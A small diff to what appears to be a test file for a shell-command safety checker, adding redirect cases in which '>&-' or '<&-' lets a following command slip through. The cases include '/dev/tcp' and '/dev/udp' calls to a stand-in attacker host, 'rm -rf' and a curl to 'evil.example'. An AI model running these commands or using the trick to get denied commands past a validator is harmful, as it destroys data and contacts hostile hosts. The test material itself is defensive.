@@ -469,6 +469,8 @@ add('redirects', [
   'cat < /dev/tcp/evil.example/80',
   'grep x </dev/udp/evil.example/53',
 ]);
+// After `>&` or `<&` a `-` is a word of its own (close the descriptor): the rest runs.
+add('redirects', ['>&-rm -rf x', 'ls; >& -rm x', '2<&-curl http://evil.example'], { hidesDenied: true });
 
 // --- dangerous assignments (floor) -----------------------------------------------------
 add(
